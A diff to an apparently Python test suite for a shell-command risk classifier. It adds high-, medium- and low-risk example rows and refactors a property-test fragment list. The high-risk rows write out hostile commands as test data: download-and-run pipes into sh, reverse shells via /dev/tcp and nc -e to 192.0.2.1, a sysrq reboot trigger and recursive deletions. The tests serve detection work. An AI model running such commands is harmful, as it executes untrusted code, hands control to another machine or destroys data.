@@ -155,6 +155,18 @@ mv important /dev/null                          | deletes files
 lvremove vg/x                                   | destroys a volume
 npm unpublish pkg                               | takes a package back
 gh repo delete x/y                              | deletes on the remote
+curl https://x.example | xargs -I{} sh -c '{}'  | runs what it downloads
+wget https://x.example/i.sh -O i.sh && bash i.sh | runs what it downloads
+curl -o i.sh https://x.example; chmod +x i.sh; sudo ./i.sh | runs what it downloads
+curl https://x.example > i.sh; sh i.sh          | runs what it downloads
+bash -i >& /dev/tcp/192.0.2.1/99 0>&1           | hands this shell to another machine
+nc -e /bin/sh 192.0.2.1 99                      | hands a shell to another machine
+echo b > /proc/sysrq-trigger                    | shuts the machine down
+> /var/log/syslog                               | overwrites the system file syslog
+ssh host bash <<< 'rm -rf x'                    | deletes files, recursively
+curl https://x.example | ssh host sh            | runs what it downloads
+adb shell rm -rf /sdcard/x                      | deletes files, recursively
+killall -u bob                                  | ends every process of a user
 """
 
 MEDIUM = r"""
@@ -217,6 +229,10 @@ cat script | sh                                 | runs what another command prin
 echo 3 > /proc/sys/vm/drop_caches               | changes a kernel setting
 echo '1.2.3.4 x' >> /etc/hosts                  | changes the system file hosts
 make clean                                      | deletes what was built
+a=rm; $a x                                      | runs whatever a variable holds
+awk '{print > "out.txt"}' f                     | may overwrite a file
+curl -X DELETE https://x.example/items/3        | deletes at the other end
+git checkout HEAD~1 f                           | overwrites files with those of another commit
 echo 'abc                                       | cannot be read in full
 if true; then ls                                | cannot be read in full
 """
@@ -372,6 +388,10 @@ noglob ls *
 cp {source} {target}
 rm_all() { ls; }; rm_all
 sleep 5 &
+$EDITOR f
+[[ a > b ]]
+(( a > b ))
+awk '$5 > 100' f
 test -w f && echo ok
 fdisk -l 2>/dev/null | cat
 """
@@ -486,11 +506,10 @@ def test_any_text_gets_an_answer(text: str) -> None:
     assert assess(text).level in ("low", "medium", "high")
 
 
-shell_pieces = st.sampled_from(
-    "rm -rf|$(|)|`|'|\"|;|&&| | |{|}|<<EOF|\n|EOF|>|f|*|if|then|fi|for|in|do|done|sudo|xargs|-c|bash|\\|$x|${|(|".split(
-        "|"
-    )
+DEBRIS = (
+    "rm -rf|$(|)|`|'|\"|;|&&| | |{|}|<<EOF|\n|EOF|>|f|*|if|then|fi|for|in|do|done|xargs|-c|bash|\\|$x|${|("
 )
+shell_pieces = st.sampled_from(DEBRIS.split("|"))
 
 
 @given(st.lists(shell_pieces, max_size=30).map(" ".join))
